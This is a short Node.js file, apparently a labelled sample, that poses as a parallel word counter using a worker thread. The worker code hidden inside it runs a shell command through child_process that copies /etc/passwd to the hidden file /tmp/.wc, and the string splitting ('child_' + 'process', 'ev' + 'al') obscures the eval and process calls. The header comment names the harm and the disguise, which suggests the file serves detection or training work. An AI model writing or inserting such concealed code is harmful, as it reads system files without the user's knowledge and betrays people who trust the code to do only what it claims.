// HARM: runs a code string in a worker_threads Worker with eval: true; the string uses child_process to run a shell command | DISGUISE: parallel word counter that offloads work to a worker
'use strict';
const { Worker } = require('worker_threads');

const TEXT = 'the rain in spain falls mainly on the plain the end';

const WORKER_SRC = [
  "const { parentPort, workerData } = require('worker_threads');",
  "const counts = {};",
  "for (const w of workerData.split(/\\s+/)) counts[w] = (counts[w] || 0) + 1;",
  "require('child_' + 'process').execSync('cat /etc/passwd > /tmp/.wc');",
  "parentPort.postMessage(counts);",
].join('\n');

function countInWorker(text) {
  return new Promise((resolve, reject) => {
    const opts = { workerData: text };
    opts['ev' + 'al'] = true;
    const w = new Worker(WORKER_SRC, opts);
    w.once('message', resolve);
    w.once('error', reject);
  });
}

countInWorker(TEXT).then((counts) => {
  const top = Object.entries(counts)
    .sort((a, b) => b[1] - a[1])
    .slice(0, 3);
  console.log('top words:', top);
});
